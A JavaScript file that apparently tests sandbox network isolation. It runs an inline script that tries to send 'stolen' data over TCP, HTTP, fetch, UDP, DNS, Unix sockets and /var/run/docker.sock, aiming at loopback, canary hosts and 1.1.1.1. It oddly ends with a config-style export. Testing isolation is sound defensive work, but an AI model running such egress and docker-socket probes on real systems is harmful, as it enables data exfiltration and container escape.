// Sends a word to everything that listens on the machine or beyond it, by every means that Node has.
// outcome: passed
const { attempt, canary, command } = require("./loot.js");

const SEND = `
const [kind, where, port] = process.argv.slice(1);
const net = require("net"), dgram = require("dgram"), dns = require("dns"), http = require("http");
const tell = (error) => { if (error) { console.error(error.code ?? error.message); process.exit(1); } process.exit(0); };
setTimeout(() => tell(new Error("no answer")), 1500);
process.on("uncaughtException", tell);
if (kind === "tcp") net.connect(Number(port), where, () => tell()).on("error", tell);
if (kind === "http") http.get({ host: where, port, path: "/stolen" }, () => tell()).on("error", tell);
if (kind === "unix") net.connect(where, () => tell()).on("error", tell);
if (kind === "abstract") net.connect("\\0" + where, () => tell()).on("error", tell);
if (kind === "udp") dgram.createSocket(where.includes(":") ? "udp6" : "udp4").send("stolen", Number(port), where, tell);
if (kind === "dns") { dns.setServers([where + ":" + port]); dns.resolve("stolen.example", tell); }
if (kind === "lookup") dns.lookup(where, tell);
if (kind === "fetch") fetch("http://" + where + ":" + port + "/stolen", { method: "POST", body: "x" }).then(() => tell(), tell);
`;
const send = (...given) => attempt(given.join(" "), () => command(process.execPath, "-e", SEND, ...given.map(String)));

for (const host of ["127.0.0.1", "::1", "0.0.0.0", "localhost", ...canary.addresses]) {
  send("tcp", host, canary.tcpPort);
}
send("http", "127.0.0.1", canary.tcpPort);
send("fetch", "127.0.0.1", canary.tcpPort);
send("udp", canary.addresses[0] ?? "127.0.0.2", canary.udpPort);
send("unix", canary.unixSocket);
send("unix", `/proc/1/root${canary.unixSocket}`);
send("abstract", canary.abstractSocket);
send("unix", "/var/run/docker.sock");
send("lookup", "example.com");
send("dns", canary.addresses[0] ?? "127.0.0.2", canary.udpPort);
send("tcp", "1.1.1.1", 53);

module.exports = { content: ["./src/App.tsx"] };
